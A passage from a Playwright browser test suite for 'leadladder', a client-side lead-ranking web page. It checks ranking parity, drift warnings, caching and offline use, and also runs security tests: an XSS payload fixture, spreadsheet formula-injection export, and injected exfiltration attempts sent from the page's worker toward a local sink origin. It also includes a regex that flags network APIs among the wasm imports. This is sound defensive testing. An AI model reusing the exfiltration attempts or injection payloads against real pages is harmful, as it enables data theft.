    all = JSON.parse(readFileSync(path, 'utf8'));
  } catch {
    all = {};
  }
  all[key] = value;
  writeFileSync(path, JSON.stringify(all, null, 2));
}

// ------------------------------------------------------------------ the suite

async function suite() {
  mkdirSync(OUT, { recursive: true });
  log(`leadladder browser tests: binary ${BIN}, browser ${CHROMIUM}`);
  const f = makeFixtures();
  log(`fixtures: ${f.count} leads (XSS payload in ${f.xssId}, formula in ${f.formulaId}), GBK file, broken CSV`);
  const server = await startServer();
  log(`server: ${server.url}`);
  const servedOrigins = [server.origin];
  const servers = [server];
  const harnessUrls = new Set(); // requests the tests make themselves, exempt from the audit
  const { context, profile } = await launch();
  const records = await recordNetwork(context);
  const consoleLines = [];
  const results = [];

  async function test(name, fn) {
    if (ONLY && !ONLY.test(name)) {
      log(`  skip  ${name}`);
      return;
    }
    const started = Date.now();
    try {
      await fn();
      results.push({ name, ok: true });
      log(`  ok    ${name} (${((Date.now() - started) / 1000).toFixed(1)} s)`);
    } catch (e) {
      results.push({ name, ok: false, error: e.message });
      log(`  FAIL  ${name}: ${e.message}`);
    }
  }
  const none = (problems, what) => assert(problems.length === 0, `${what}:\n    ${problems.slice(0, 12).join('\n    ')}`);

  try {
    await test('a software WebGPU adapter: the page picks the CPU build, says why and offers the override', async () => {
      const page = await openPage(context, server.url, consoleLines);
      const dev = await deviceFields(page);
      assert(dev.Engine === 'CPU build', `engine: ${JSON.stringify(dev)}`);
      assert(/software/.test(dev.Why || '') && /swiftshader/i.test(dev.Why || ''), `reason: ${dev.Why}`);
      const href = await page.locator('#device-panel dd[data-field="Override"] a').getAttribute('href');
      assert(href === '?device=gpu', `override link: ${href}`);
      await page.close();
    });

    let gpuPage = null;
    await test('WebGPU path (?device=gpu on SwiftShader): upload → ranked table equal to `leadladder rank`', async () => {
      gpuPage = await openPage(context, `${server.url}?device=gpu`, consoleLines);
      assert((await gpuPage.locator('#model-status').textContent()).match(/\d+ KB/), 'the model size is not shown before download');
      await uploadAndRank(gpuPage, f.leads);
      const dev = await deviceFields(gpuPage);
      assert(dev.Engine === 'WebGPU build', `engine: ${JSON.stringify(dev)}`);
      assert(dev['Running on'] === 'GPU (WebGPU)', `expected the WebGPU backend, got ${JSON.stringify(dev)}`);
      assert(/swiftshader/i.test(dev.Adapter || ''), `adapter: ${dev.Adapter}`);
      assert(/leads\/s/.test(dev['Measured speed'] || ''), 'no measured speed');
      none(checkTableAgainstNative(await visibleRows(gpuPage), f.nativeRanked), 'table vs native');
      await explainTop(gpuPage);
      const exported = await exportFromPage(gpuPage);
      none(compareRankedCsv(exported, f.nativeRanked), 'WebGPU export vs native');
      mkdirSync(OUT, { recursive: true });
      await gpuPage.screenshot({ path: join(OUT, 'ranked-queue.png'), fullPage: true });
    });

    await test('audit panel equals `leadladder audit --score score`', async () => {
      assert(gpuPage, 'no ranked page');
      assert(await gpuPage.locator('#audit-card').isVisible(), 'the audit panel is hidden');
      const { problems } = await checkAudit(gpuPage, f.nativeAudit);
      none(problems, 'audit vs native');
      const paths = await gpuPage.locator('#audit-chart svg path.curve').count();
      assert(paths >= 3, `the chart has ${paths} curves`);
    });

    await test('XSS payload in a dialogue stays text', async () => {
      assert(gpuPage, 'no ranked page');
      await gpuPage.fill('#filter-input', f.xssId);
      await gpuPage.waitForFunction((id) => {
        const rows = document.querySelectorAll('#queue .queue-row');
        return rows.length === 1 && rows[0].querySelector('.cell.id').textContent === id;
      }, f.xssId, { timeout: 20_000 });
      await gpuPage.click('#queue .queue-row .why');
      await gpuPage.waitForFunction(
        (id) => document.querySelector('#detail-title').textContent === `Lead ${id}` && document.querySelector('#detail-reasons h4'),
        f.xssId,
        { timeout: 120_000 },
      );
      const detail = await gpuPage.locator('#detail-fields').textContent();
      assert(detail.includes('<img src=x'), 'the payload is not shown as text');
      const snippet = await gpuPage.locator('#queue .queue-row .snippet').textContent();
      assert(snippet.includes('<img'), 'the snippet does not show the payload as text');
      const xss = await gpuPage.evaluate(() => ({ flag: window.__xss ?? null, imgs: document.querySelectorAll('img').length, scripts: document.querySelectorAll('body script').length }));
      assert(xss.flag === null && xss.imgs === 0 && xss.scripts === 0, `payload ran or created elements: ${JSON.stringify(xss)}`);
      await gpuPage.fill('#filter-input', '');
    });

    await test('formula cell is exported with a leading apostrophe', async () => {
      assert(gpuPage, 'no ranked page');
      const rows = parseCsv(await exportFromPage(gpuPage));
      const h = rows[0];
      const row = rows.find((r) => r[h.indexOf('lead_id')] === f.formulaId);
      assert(row, 'formula lead missing from the export');
      assert(row[h.indexOf('dialogue')] === `'${FORMULA_TEXT}`, `dialogue exported as ${JSON.stringify(row[h.indexOf('dialogue')])}`);
    });

    await test('CPU path (?device=cpu): ranked table and export equal `leadladder rank`', async () => {
      // The demo model is an ensemble (its members' tensors under `ensemble.<m>.`), so this and
      // the WebGPU test compare the page's ensemble scoring with the native one.
      const bytes = readFileSync(MODEL);
      const header = JSON.parse(bytes.subarray(8, 8 + Number(bytes.readBigUInt64LE(0))).toString('utf8'));
      const members = new Set(Object.keys(header).map((k) => (/^ensemble\.(\d+)\./.exec(k) || [])[1]).filter(Boolean));
      assert(members.size >= 2, `the demo model is not an ensemble: members ${[...members]}`);
      const page = await openPage(context, `${server.url}?device=cpu`, consoleLines);
      await uploadAndRank(page, f.leads);
      const dev = await deviceFields(page);
      assert(dev.Engine === 'CPU build' && dev['Running on'] === 'CPU', `device: ${JSON.stringify(dev)}`);
      assert(/device=cpu/.test(dev.Why || ''), `reason: ${dev.Why}`);
      none(checkTableAgainstNative(await visibleRows(page), f.nativeRanked), 'CPU table vs native');
      await explainTop(page);
      none(compareRankedCsv(await exportFromPage(page), f.nativeRanked), 'CPU export vs native');
      const { problems } = await checkAudit(page, f.nativeAudit);
      none(problems, 'CPU audit vs native');
      // The queue is virtualised: a few dozen rows in the DOM however long the file, and
      // scrolling to the end brings the last lead in.
      const rendered = await page.locator('#queue .queue-row').count();
      assert(rendered > 0 && rendered <= 80, `${rendered} queue rows in the DOM for ${f.count} leads`);
      await page.evaluate(() => {
        const q = document.querySelector('#queue');
        q.scrollTop = q.scrollHeight;
      });
      await page.waitForSelector(`#queue .queue-row[data-rank="${f.count}"]`, { timeout: 10_000 });
      await page.close();
    });

    await test('ensemble bundle with out-of-range tokens (tests/fixtures/parity): the page ranks a drifting file like `leadladder rank` on the CPU and on WebGPU', async () => {
      // Two members trained with `--out-of-range on` on a funnel whose period fields leave the
      // fitted range in the test period: the page must pick the same field tokens and average
      // the members as the native scorer does.
      const model = join(REPO, 'tests', 'fixtures', 'parity', 'ensemble.f32.safetensors');
      const leads = join(REPO, 'tests', 'fixtures', 'parity', 'leads-drift.csv');
      const out = join(WORK, 'native-ensemble-ranked.csv');
      run(['rank', '--model', model, '--input', leads, '--out', out, '--explain', '0']);
      const native = readFileSync(out, 'utf8');
      for (const device of ['cpu', 'gpu']) {
        const page = await openPage(context, `${server.url}?device=${device}`, consoleLines);
        await page.setInputFiles('#bundle-input', model);
        await page.waitForSelector('#bundle-check:not([hidden])', { timeout: 60_000 });
        await page.click('#bundle-use');
        await page.waitForFunction(() => /ensemble\.f32/.test(document.querySelector('#model-status').textContent));
        await uploadAndRank(page, leads);
        none(compareRankedCsv(await exportFromPage(page), native), `${device}: ensemble export vs native`);
        await page.close();
      }
    });

    await test('CPU path on one worker per core: the same queue and export as one worker and as `leadladder rank`', async () => {
      const exports = {};
      for (const [name, query] of [['several workers', '?device=cpu'], ['one worker', '?device=cpu&workers=1']]) {
        const page = await openPage(context, `${server.url}${query}`, consoleLines);
        await uploadAndRank(page, f.long);
        const dev = await deviceFields(page);
        const cores = await page.evaluate(() => navigator.hardwareConcurrency);
        const workers = Number(((dev['Measured speed'] || '').match(/(\d+) workers/) || [0, 1])[1]);
        assert(name === 'one worker' ? workers === 1 : workers === Math.min(8, cores), `${name}: ${dev['Measured speed']} with ${cores} cores`);
        exports[name] = await exportFromPage(page);
        none(compareRankedCsv(exports[name], f.nativeLongRanked), `${name}: export vs native`);
        await page.close();
      }
      assert(exports['several workers'] === exports['one worker'], 'the exports of several workers and one worker differ');
    });

    await test('GBK-encoded file ranks like `leadladder rank`', async () => {
      const page = await openPage(context, `${server.url}?device=cpu`, consoleLines);
      await uploadAndRank(page, f.gbk);
      const status = await page.locator('#file-status').textContent();
      assert(/gbk|gb18030/i.test(status), `encoding not reported as GBK: ${status}`);
      await explainTop(page);
      none(compareRankedCsv(await exportFromPage(page), f.nativeGbkRanked), 'GBK export vs native');
      await page.close();
    });

    await test('malformed CSV and bad bundle: readable errors, the page keeps working', async () => {
      const page = await openPage(context, `${server.url}?device=cpu`, consoleLines);
      let failed = false;
      try {
        await uploadAndRank(page, f.bad, 60_000);
      } catch (e) {
        failed = true;
        assert(/the page showed an error: .{10,}/.test(e.message), `unexpected failure: ${e.message}`);
      }
      assert(failed, 'the broken CSV was accepted');
      await page.setInputFiles('#bundle-input', f.badBundle);
      await page.waitForSelector('#banner:not([hidden])');
      const msg = await bannerText(page);
      assert(msg && msg.length > 10, 'no readable bundle error');
      await page.click('#banner-close');
      await page.setInputFiles('#bundle-input', MODEL);
      await page.waitForSelector('#bundle-check:not([hidden])', { timeout: 60_000 });
      assert(/leadladder-bundle\/\d/.test(await page.locator('#bundle-summary').textContent()), 'bundle summary');
      await page.click('#bundle-use');
      await page.waitForFunction(() => /demo\.int8/.test(document.querySelector('#model-status').textContent));
      await uploadAndRank(page, f.leads);
      const count = await page.evaluate(() => document.body.dataset.ranked);
      assert(Number(count) === f.count, `ranked ${count} of ${f.count} after the errors`);
      await page.close();
    });

    await test('drift: an old bundle says the check is unavailable; a bundle with its training data’s distribution shows its guard on load and names the drifted fields of a shifted CSV', async () => {
      const page = await openPage(context, `${server.url}?device=cpu`, consoleLines);
      const panel = () => page.evaluate(() => ({
        state: document.body.dataset.drift || '',
        visible: !document.querySelector('#drift-panel').hidden,
        text: document.querySelector('#drift-panel').textContent,
        guard: document.body.dataset.guard || '',
        guardText: document.querySelector('#guard-note').hidden ? '' : document.querySelector('#guard-note').textContent,
      }));
      // The demo as shipped before bundles stored their training data's distribution.
      await page.setInputFiles('#bundle-input', join(REPO, 'tests', 'fixtures', 'old-bundle', 'demo-bundle2.int8.safetensors'));
      await page.waitForSelector('#bundle-check:not([hidden])', { timeout: 60_000 });
      await page.click('#bundle-use');
      await page.waitForFunction(() => /^demo-bundle2\.int8\.safetensors: /.test(document.querySelector('#model-status').textContent), null, { timeout: 60_000 });
      await uploadAndRank(page, f.small);
      let p = await panel();
      assert(p.state === 'unavailable' && p.visible && /drift check unavailable: this bundle was trained before leadladder stored its training data's distribution/i.test(p.text), `old bundle: ${JSON.stringify(p)}`);
      assert(!p.guard && !p.guardText, `old bundle shows a guard: ${JSON.stringify(p)}`);

      await page.setInputFiles('#bundle-input', f.driftModel);
      await page.waitForSelector('#bundle-check:not([hidden])', { timeout: 60_000 });
      const summary = await page.locator('#bundle-summary').textContent();
      assert(/Warning: This model ranks worse than recency/.test(summary), `bundle summary: ${summary}`);
      await page.click('#bundle-use');
      // "Loading demo-drift.safetensors…" comes first; then the loaded model's description.
      await page.waitForFunction(() => /^demo-drift\.safetensors: /.test(document.querySelector('#model-status').textContent), null, { timeout: 60_000 });
      p = await panel();
      // The guard shows as soon as the bundle loads, before any file; the drift panel waits for one.
      assert(p.guard === 'worse' && /Warning: This model ranks worse than recency .* on its own test period: AUC \d\.\d\d \[\d\.\d\d, \d\.\d\d\] against .*Do not trust its queue/.test(p.guardText), `guard: ${JSON.stringify(p)}`);
      assert(await page.locator('#guard-note').isVisible(), 'the guard is not visible');
      assert(!p.visible, `drift panel before a file: ${JSON.stringify(p)}`);

      await uploadAndRank(page, f.driftShifted);
      p = await panel();
      assert(p.state === 'drifted' && p.visible, `shifted file: ${JSON.stringify(p)}`);
      for (const words of [
        'channel: 100% of these leads have values the model never saw in training (e.g. "tiktok"); the ranking may not hold.',
        'calls_so_far: 100% of these leads lie outside anything the model was trained on (above ',
      ]) {
        assert(p.text.includes(words), `the drift panel does not say ${JSON.stringify(words)}: ${p.text}`);
      }
      assert(await page.locator('#drift-warnings li').count() >= 2, 'fewer than two warnings listed');
      mkdirSync(OUT, { recursive: true });
      await page.screenshot({ path: join(OUT, 'drift.png'), fullPage: true });

      await uploadAndRank(page, f.leads);
      p = await panel();
      assert(p.state === 'none' && /No drift found \(10 fields, 300 leads against 2,000 training leads\)/.test(p.text), `file like the training data: ${JSON.stringify(p)}`);
      await page.close();
    });

    await test('cancel during a 50,000-lead ranking stops it, and the page ranks again', async () => {
      // 50,000 leads (21.6 MB): the file is read into the worker and helpers, ranking starts,
      // and cancel must stop it between two chunks.
      const huge = join(WORK, 'cancel-50000.csv');
      if (!existsSync(huge)) run(['synth', '--leads', '50000', '--seed', '13', '--out', huge, '--spec', join(WORK, 'cancel-50k.toml')]);
      const page = await openPage(context, `${server.url}?device=cpu`, consoleLines);
      await page.setInputFiles('#csv-input', huge);
      await page.waitForFunction(() => !document.querySelector('#rank-button').disabled, null, { timeout: 60_000 });
      await page.click('#rank-button');
      await page.waitForSelector('#cancel-button:not([hidden])', { timeout: 120_000 });
      await page.waitForTimeout(1000);
      await page.click('#cancel-button');
      await page.waitForFunction(() => /cancelled after/.test(document.querySelector('#file-status').textContent), null, { timeout: 120_000 });
      const status = await page.locator('#file-status').textContent();
      const m = status.match(/after ([\d,]+) of ([\d,]+)/);
      assert(m && Number(m[1].replaceAll(',', '')) < Number(m[2].replaceAll(',', '')), `status: ${status}`);
      assert(!(await page.evaluate(() => document.body.dataset.ranked)), 'a cancelled run was reported as ranked');
      await uploadAndRank(page, f.leads);
      const count = await page.evaluate(() => document.body.dataset.ranked);
      assert(Number(count) === f.count, `ranked ${count} of ${f.count} after cancelling`);
      await page.close();
    });

    await test('no GPU adapter: the CPU build loads and the page says why', async () => {
      const plain = await launch({ webgpu: false });
      try {
        const page = await openPage(plain.context, server.url, consoleLines);
        const dev = await deviceFields(page);
        assert(dev.Engine === 'CPU build', `engine: ${JSON.stringify(dev)}`);
        assert(/webgpu|adapter/i.test(dev.Why || ''), `no visible reason: ${JSON.stringify(dev)}`);
        assert(await page.locator('#device-panel dd[data-field="Why"]').isVisible(), 'the reason is not visible');
        await uploadAndRank(page, f.gbk);
        const count = await page.evaluate(() => Number(document.body.dataset.ranked));
        assert(count > 0, 'nothing ranked on the CPU fallback');
      } finally {
        await plain.context.close();
        rmSync(plain.profile, { recursive: true, force: true });
      }
    });

    await test('widget demo page ranks', async () => {
      const page = await context.newPage();
      page.on('pageerror', (e) => consoleLines.push(`[pageerror] ${e.message}`));
      await page.goto(`${server.url}crm-demo.html`);
      await page.waitForFunction(() => !document.querySelector('#rank-leads').disabled, null, { timeout: 30_000 });
      await page.click('#rank-leads');
      await page.waitForFunction(() => document.body.dataset.ranked, null, { timeout: 900_000 });
      const items = await page.locator('lead-ladder li').count();
      assert(items === 10, `the widget lists ${items} leads`);
      const grade = await page.locator('lead-ladder li .grade').first().textContent();
      assert(['A', 'B', 'C', 'D'].includes(grade), `grade ${grade}`);
      await page.close();
    });

    await test('offline after one visit: the page opens and ranks with its server gone', async () => {
      // A server of its own (its own origin, so its own service worker), stopped after one visit.
      const own = await startServer();
      servedOrigins.push(own.origin);
      servers.push(own);
      try {
        const warm = await openPage(context, `${own.url}?device=cpu`, consoleLines);
        await uploadAndRank(warm, f.leads);
        await warm.waitForSelector('body[data-offline="ready"]', { timeout: 60_000 });
        await warm.close();
      } finally {
        own.child.kill();
      }
      await new Promise((r) => own.child.exitCode !== null || own.child.signalCode !== null ? r() : own.child.once('exit', r));
      const page = await openPage(context, `${own.url}?device=cpu`, consoleLines);
      // The server is really gone: a file the service worker never kept cannot be fetched.
      // (The network audit exempts exactly this URL: the harness's probe, not the page's request.)
      const probeUrl = `${own.url}not-kept-${Date.now()}.txt`;
      harnessUrls.add(probeUrl);
      const probe = await page.evaluate((u) => fetch(u).then((r) => `HTTP ${r.status}`, (e) => `failed: ${e.name}`), probeUrl);
      assert(probe.startsWith('failed'), `the server still answers: ${probe}`);
      await uploadAndRank(page, f.leads);
      const count = await page.evaluate(() => document.body.dataset.ranked);
      assert(Number(count) === f.count, `ranked ${count} of ${f.count} offline`);
      await page.close();
    });

    await test('network audit: ranking, explaining, auditing and exporting sends only GETs of page files', async () => {
      const seen = records.filter((r) => !harnessUrls.has(r.url));
      const serverLog = servers.flatMap((sv) => sv.log);
      // The list of what the page asked for while the tests ranked, explained, audited and
      // exported the marked CSV (target/browser/requests.txt).
      const lines = new Map();
      for (const r of seen) {
        const u = new URL(r.url);
        const key = `${r.from.padEnd(14)} ${r.method.padEnd(4)} ${u.protocol === 'blob:' ? 'blob: (the worker bootstrap)' : u.pathname + u.search}`;
        lines.set(key, (lines.get(key) || 0) + 1);
      }
      writeFileSync(join(OUT, 'requests.txt'), [...lines].sort().map(([k, n]) => `${k}  ×${n}`).join('\n') + '\n');
      none(auditNetwork(seen, serverLog, servedOrigins), 'the network audit failed');
      assert(seen.length > 10 && serverLog.length > 10, `only ${seen.length} requests and ${serverLog.length} server lines recorded`);
      // The recorder sees each realm: the scoring worker (only it fetches the wasm builds and
      // GETs the model) and the service worker.
      assert(seen.some((r) => /\/pkg\/gpu\/leadladder_wasm_bg\.wasm$/.test(r.url)), 'the worker’s WebGPU wasm fetch was not recorded');
      assert(seen.some((r) => /\/pkg\/cpu\/leadladder_wasm_bg\.wasm$/.test(r.url)), 'the worker’s CPU wasm fetch was not recorded');
      assert(seen.some((r) => r.method === 'GET' && /\/models\/demo\.int8\.safetensors$/.test(r.url)), 'the model download was not recorded');
      assert(seen.some((r) => r.from === 'service worker'), 'no service-worker request was recorded');
      assert(serverLog.some((l) => l.startsWith('GET /models/demo.int8.safetensors ')), 'the server log lacks the model download');
    });

    await test('injected exfiltration from the page, its worker, its helper workers and its service worker is blocked by the policy or fails the audit', async () => {
      await exfiltrationDrill(f, consoleLines);
    });

    await test('a host that sends no headers: the scoring worker still runs under the page’s policy', async () => {
      const host = await startStaticHost();
      const sink = await startSink();
      const own = await launch();
      try {
        const page = await openPage(own.context, `${host.url}?device=cpu`, consoleLines);
        const dev = await deviceFields(page);
        assert(/^enforced/.test(dev['Network policy'] || ''), `device panel: ${JSON.stringify(dev)}`);
        await uploadAndRank(page, f.leads);
        const worker = await scoringWorker(page);
        const attempts = ['fetch GET with a query', 'fetch POST with a body', 'WebSocket', 'EventSource', 'dynamic import'].map((kind, i) => ({ kind, tag: `${MARKER}-static${i}`, target: 'foreign' }));
        const got = await worker.evaluate(exfiltrate, { attempts, same: host.origin, foreign: sink.origin, marker: MARKER });
        const unblocked = got.filter((a) => a.violations.length === 0);
        assert(unblocked.length === 0, `not blocked in the worker: ${unblocked.map((a) => `${a.kind} (${a.error})`).join(', ')}`);
        assert(sink.hits.length === 0, `the other origin received: ${sink.hits.join(' | ')}`);
      } finally {
        await own.context.close();
        rmSync(own.profile, { recursive: true, force: true });
        host.server.close();
        sink.server.close();
      }
    });

    await test('no policy at all (meta tag removed, no headers): the engine refuses to start', async () => {
      const host = await startStaticHost({ stripPolicy: true });
      const own = await launch();
      try {
        const page = await own.context.newPage();
        await page.goto(`${host.url}?device=cpu`);
        await page.waitForFunction(() => !document.querySelector('#banner').hidden, null, { timeout: 60_000 });
        const banner = await bannerText(page);
        assert(/no Content-Security-Policy is enforced/.test(banner || ''), `banner: ${banner}`);
        assert(!(await page.evaluate(() => document.body.dataset.engine)), 'the engine started anyway');
      } finally {
        await own.context.close();
        rmSync(own.profile, { recursive: true, force: true });
        host.server.close();
      }
    });

    await test('the wasm builds import no network API', async () => {
      for (const build of ['cpu', 'gpu']) {
        const mod = await WebAssembly.compile(readFileSync(join(REPO, 'pkg', build, 'leadladder_wasm_bg.wasm')));
        const imports = WebAssembly.Module.imports(mod).map((i) => i.name);
        assert(imports.length > 10, `${build}: only ${imports.length} imports`);
        const network = imports.filter((n) => /fetch|xmlhttp|websocket|sendbeacon|eventsource|rtc|importscripts|open|location/i.test(n));
        assert(network.length === 0, `${build} imports ${network.join(', ')}`);
      }
    });

    // ---------------------------------------------------------------- loading a model
    // Each case runs on a server and a browser profile of its own (its own origin, so its own
    // Cache API storage and server log).
    const ownBrowser = async (fn) => {
      const own = await startServer();
      const b = await launch();
      const recs = await recordNetwork(b.context);
      await watchModelStatus(b.context);
      try {
        await fn({ own, context: b.context, recs });
      } finally {
        await b.context.close();
        rmSync(b.profile, { recursive: true, force: true });
        own.child.kill();
      }
    };
    const modelGets = (own) => own.log.filter((l) => l.startsWith('GET /models/demo.int8.safetensors '));
    const isModelRequest = (r) => /\/models\/demo\.int8\.safetensors$/.test(r.url);

    await test('model cache: a second visit loads the model from the Cache API, with progress, and downloads nothing', async () => {
      await ownBrowser(async ({ own, context, recs }) => {
        const first = await openPage(context, `${own.url}?device=cpu`, consoleLines);
        await uploadAndRank(first, f.small);
        const one = await modelState(first);
        assert(one.source === 'network', `first visit: model source ${JSON.stringify(one)}`);
        assert(one.seen.some((t) => /^Loading model… \d+ \/ \d+ KB \(downloading\)$/.test(t)), `no download progress: ${JSON.stringify(one.seen)}`);
        await first.close();
        assert(modelGets(own).length === 1, `server log: ${modelGets(own).join(' | ')}`);
        const before = recs.length;
        const second = await openPage(context, `${own.url}?device=cpu`, consoleLines);
        await waitForModel(second);
        const two = await modelState(second);
        assert(two.source === 'cache' && /cache/.test(two.status), `second visit: ${JSON.stringify(two)}`);
        assert(two.seen.some((t) => /^Loading model… \d+ \/ \d+ KB \(from cache\)$/.test(t)), `no progress from the cache: ${JSON.stringify(two.seen)}`);
        assert(!two.note, `a note on a clean load: ${two.note}`);
        await uploadAndRank(second, f.small);
        none(compareRankedCsv(await exportFromPage(second), f.nativeSmallRanked), 'export after a load from the cache vs native');
        const again = recs.slice(before).filter(isModelRequest);
        assert(again.length === 0, `the second visit requested the model: ${again.map((r) => `${r.from} ${r.method} ${r.url}`).join(' | ')}`);
        assert(modelGets(own).length === 1, `server log: ${modelGets(own).join(' | ')}`);
      });
    });

    await test('model cache: a damaged kept copy is deleted and downloaded again, once, and the page says so', async () => {
      await ownBrowser(async ({ own, context }) => {
        let page = await openPage(context, `${own.url}?device=cpu`, consoleLines);
        await uploadAndRank(page, f.small);
        assert(modelGets(own).length === 1, `server log: ${modelGets(own).join(' | ')}`);
        const whole = readFileSync(MODEL);
        // A truncated copy (the bundle does not parse), then one byte flipped inside tensor data
        // (it parses; only the weights' hash, weights_fnv1a64, tells).
        const damages = [
          ['truncated', whole.subarray(0, whole.length - 100), /downloaded again/],
          ['one byte flipped', corruptedModel(), /weights_fnv1a64|do not match their hash/],
        ];
        for (const [name, bytes, says] of damages) {
          const gets = modelGets(own).length;
          await page.evaluate(
            async ({ cacheName, url, data }) => {
              const body = Uint8Array.from(atob(data), (c) => c.charCodeAt(0));
              const cache = await caches.open(cacheName);
              await cache.put(url, new Response(body, { headers: { 'Content-Type': 'application/octet-stream', 'Content-Length': String(body.length) } }));
            },
            { cacheName: modelCacheName(), url: `${own.url}models/demo.int8.safetensors`, data: Buffer.from(bytes).toString('base64') },
          );
          await page.close();
          page = await openPage(context, `${own.url}?device=cpu`, consoleLines);
          await waitForModel(page);
          const state = await modelState(page);
          assert(/downloaded again/.test(state.note) && says.test(state.note), `${name}: the note does not say what happened: ${JSON.stringify(state)}`);
          assert(state.source === 'network', `${name}: model source ${state.source}`);
          await uploadAndRank(page, f.small);
          none(compareRankedCsv(await exportFromPage(page), f.nativeSmallRanked), `${name}: export after the download vs native`);
          assert(modelGets(own).length === gets + 1, `${name}: expected exactly one more GET of the model: ${modelGets(own).join(' | ')}`);
        }
        // The new copy is whole: the next visit loads it with no note and no download.
        await page.close();
        const last = await openPage(context, `${own.url}?device=cpu`, consoleLines);
        await waitForModel(last);
        const after = await modelState(last);
        assert(after.source === 'cache' && !after.note, `last visit: ${JSON.stringify(after)}`);
        assert(modelGets(own).length === 1 + damages.length, `server log: ${modelGets(own).join(' | ')}`);
      });
    });

    await test('a model file too big for wasm memory: the page says which limit and by how much, and keeps working', async () => {
      // A sparse file: 3.5 GiB to the browser, no disk used. A wasm32 tab holds 4 GiB in all.
      const huge = join(WORK, 'huge.safetensors');
      writeFileSync(huge, '');
      execFileSync('truncate', ['-s', String(3.5 * 1024 ** 3), huge]);
      await ownBrowser(async ({ own, context }) => {
        const page = await openPage(context, `${own.url}?device=cpu`, consoleLines);
        await uploadAndRank(page, f.small);
        const started = Date.now();
        await page.setInputFiles('#bundle-input', huge);
        await page.waitForSelector('#banner:not([hidden])', { timeout: 120_000 });
        const banner = await bannerText(page);
        const status = await page.locator('#bundle-status').textContent();
        assert(/cannot be held/.test(status), `bundle status: ${status}`);
        assert(/\d+(\.\d+)? ?(MiB|MB|GB)/.test(banner) && /memory/i.test(banner), `the message names no size or limit: ${banner}`);
        assert(Date.now() - started < 60_000, `refusing took ${(Date.now() - started) / 1000} s`);
        log(`        the page says: ${banner}`);
        await page.click('#banner-close');
        assert(await page.locator('#bundle-check').isHidden(), 'the huge file was offered for use');
        await uploadAndRank(page, f.small);
        none(compareRankedCsv(await exportFromPage(page), f.nativeSmallRanked), 'export after the refusal vs native');
      });
      rmSync(huge, { force: true });
    });

    await test('simulated small GPU (?gpuLimit=): ranks on WebGPU like `leadladder rank`; below one needed buffer it falls back to the CPU and says which limit', async () => {
      const { embedding, other } = gpuBuffers(bundleConfig(MODEL));
      // With the embedding table larger than every other buffer, a limit between the two makes
      // the page gather embedding rows on the host. The demo model's table is the smaller
      // (vocabulary 1,112), so there the limit is the largest buffer it needs, which must still
      // run on WebGPU; the real-size case covers gathering (its table exceeds WebGPU's default
      // 128 MiB binding).
      const fits = embedding > other ? Math.floor((embedding + other) / 2) : Math.max(embedding, other);
      if (!(embedding > other)) log(`        (demo model: embedding table ${embedding} B ≤ largest other buffer ${other} B, so gpuLimit=${fits} does not make it gather rows)`);
      const tiny = Math.floor(Math.min(embedding, other) / 4);
      await ownBrowser(async ({ own, context }) => {
        const exports = {};
        for (const [name, query] of [['no limit', '?device=gpu'], ['limit', `?device=gpu&gpuLimit=${fits}`], ['tiny limit', `?device=gpu&gpuLimit=${tiny}`]]) {
          const page = await openPage(context, `${own.url}${query}`, consoleLines);
          await uploadAndRank(page, f.small);
          const dev = await deviceFields(page);
          exports[name] = await exportFromPage(page);
          none(compareRankedCsv(exports[name], f.nativeSmallRanked), `${name}: export vs native`);
          if (name === 'tiny limit') {
            assert(dev['Running on'] === 'CPU', `${name}: running on ${dev['Running on']}`);
            assert(/maxStorageBufferBindingSize/.test(dev['Fell back because'] || ''), `${name}: fell back because ${dev['Fell back because']}`);
            const note = await modelState(page);
            assert(/maxStorageBufferBindingSize/.test(note.note), `${name}: the page does not say which limit: ${note.note}`);
            const href = await page.locator('#model-note a').getAttribute('href');
            assert(href === '?device=cpu', `${name}: no offer of the CPU build (${href})`);
          } else {
            assert(dev['Running on'] === 'GPU (WebGPU)', `${name}: running on ${dev['Running on']} (${dev['Fell back because']})`);
            if (name === 'limit' && embedding > other) assert(/embedding table on the host/.test(dev['GPU buffer limits'] || ''), `${name}: ${dev['GPU buffer limits']}`);
          }
          await page.close();
        }
        none(compareRankedCsv(exports.limit, exports['no limit']), 'export with the limit vs without');
      });
    });

    await test('real-size bundle (LEADLADDER_REAL_SIZE): the page loads it from a picked file and ranks like `leadladder rank` on the CPU and on WebGPU', async () => {
      const dir = process.env.LEADLADDER_REAL_SIZE;
      if (!dir) {
        log('        skipped: LEADLADDER_REAL_SIZE is not set (a folder with int8.safetensors, f16.safetensors and leads.csv: scripts/real-size-fixture.sh)');
        return;
      }
      const model = join(dir, 'int8.safetensors');
      for (const name of ['int8.safetensors', 'leads.csv']) assert(existsSync(join(dir, name)), `${join(dir, name)} is missing`);
      // The CPU path ranks 8 leads; WebGPU on SwiftShader (the CPU emulating a GPU, far slower)
      // ranks LEADLADDER_REAL_SIZE_GPU_LEADS (default 2), each against native rank on the same leads.
      const gpuLeads = Math.max(1, Number.parseInt(process.env.LEADLADDER_REAL_SIZE_GPU_LEADS || '2', 10) || 2);
      const allRows = parseCsv(readFileSync(join(dir, 'leads.csv'), 'utf8'), 9);
      const leadFiles = {};
      const natives = {};
      const result = { bundleBytes: statSync(model).size, leads: {} };
      for (const [device, n] of [['cpu', 8], ['gpu', gpuLeads]]) {
        const path = join(WORK, `real-size-${device}.csv`);
        writeFileSync(path, writeCsv(allRows.slice(0, n + 1)));
        leadFiles[device] = path;
        result.leads[device] = n;
      }
      const nativeFor = (device) => {
        if (!natives[device]) {
          const started = Date.now();
          const out = join(WORK, `real-size-native-${device}.csv`);
          const line = run(['rank', '--model', model, '--input', leadFiles[device], '--out', out, '--explain', '0'], { timeout: 3_600_000 }).split('\n')[0];
          natives[device] = readFileSync(out, 'utf8');
          result[`native-${device}`] = { seconds: (Date.now() - started) / 1000, line };
        }
        return natives[device];
      };
      const exports = {};
      await ownBrowser(async ({ own, context }) => {
        // WebGPU on SwiftShader emulates the GPU on the CPU and takes many minutes for a 0.5 B
        // model: opt in with LEADLADDER_REAL_SIZE_GPU=1 (scripts/test.sh runs the CPU path).
        const devices = process.env.LEADLADDER_REAL_SIZE_GPU === '1' ? ['cpu', 'gpu'] : ['cpu'];
        if (devices.length === 1) log('        WebGPU leg skipped: set LEADLADDER_REAL_SIZE_GPU=1 to run it on SwiftShader');
        for (const device of devices) {
          const page = await openPage(context, `${own.url}?device=${device}`, consoleLines);
          const started = Date.now();
          await page.setInputFiles('#bundle-input', model);
          await page.waitForFunction(() => !document.querySelector('#bundle-check').hidden || !document.querySelector('#banner').hidden, null, { timeout: 1_800_000, polling: 500 });
          const banner = await bannerText(page);
